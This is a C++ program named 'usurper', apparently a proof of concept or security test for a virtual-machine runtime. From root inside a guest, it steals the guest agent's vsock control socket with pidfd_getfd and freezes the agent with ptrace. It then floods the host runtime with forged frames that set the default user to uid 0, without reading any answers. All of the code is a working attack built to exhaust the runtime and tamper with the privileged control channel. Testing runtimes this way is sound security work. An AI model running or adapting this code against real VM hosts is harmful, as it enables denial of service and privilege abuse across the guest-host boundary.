// usurper MIB FILE: what root in a guest can do to its runtime over the control channel. Takes the
// agent's end of it (pidfd_getfd), stops the agent, and sends so much of a message that is
// answered, without reading an answer. When all is sent, or nothing has been taken for three
// seconds, it makes FILE and waits: without an agent nobody would hear of its end.
#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <linux/vm_sockets.h>
#include <string>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

namespace {

constexpr unsigned control_port = 1024;

[[noreturn]] void give_up(const char* what) {
    std::perror(what);
    std::exit(1);
}

int take_control_channel() {
    const int agent = static_cast<int>(::syscall(SYS_pidfd_open, 1, 0));
    for (int number = 0; number < 256; ++number) {
        const int fd = static_cast<int>(::syscall(SYS_pidfd_getfd, agent, number, 0));
        sockaddr_vm peer{};
        socklen_t size = sizeof(peer);
        if (fd != -1 && ::getpeername(fd, reinterpret_cast<sockaddr*>(&peer), &size) == 0 &&
            peer.svm_family == AF_VSOCK && peer.svm_port == control_port)
            return fd;
        ::close(fd);
    }
    give_up("no control channel");
}

/// core.init.resolved {"default_user": {"uid": 0, "gid": 0}}; see wire/frame.hpp.
std::string frame() {
    using namespace std::string_literals;
    const std::string payload = "\xa1\x6c"s + "default_user" + "\xa2\x63uid\x00\x63gid\x00"s;
    const std::string body = "\xa3\x61v\x07\x61t\x72"s + "core.init.resolved" + "\x61p\x58" +
                             static_cast<char>(payload.size()) + payload;
    return "\0\0\0"s + static_cast<char>(body.size() + 5) + "\0\0\0\0\0"s + body;
}

} // namespace

int main(int argc, char** argv) {
    if (argc < 3)
        return 2;
    const int channel = take_control_channel();
    if (::ptrace(PTRACE_SEIZE, 1, nullptr, nullptr) == -1 ||
        ::ptrace(PTRACE_INTERRUPT, 1, nullptr, nullptr) == -1)
        give_up("ptrace");
    ::waitpid(1, nullptr, __WALL);
    std::string many;
    while (many.size() < 60'000)
        many += frame();
    constexpr int patience = 3000;
    int idle = 0; // milliseconds; the agent's socket does not block
    for (auto left = static_cast<std::size_t>(std::atoi(argv[1])) << 20;
         left > many.size() && idle < patience; left -= many.size())
        for (std::size_t sent = 0; sent < many.size() && idle < patience;) {
            const ssize_t count =
                ::send(channel, many.data() + sent, many.size() - sent, MSG_NOSIGNAL);
            sent += static_cast<std::size_t>(std::max<ssize_t>(count, 0));
            idle = count > 0 ? 0 : idle + 1;
            if (count <= 0)
                ::usleep(1000);
        }
    if (FILE* done = std::fopen(argv[2], "w"))
        std::fclose(done);
    ::pause();
}
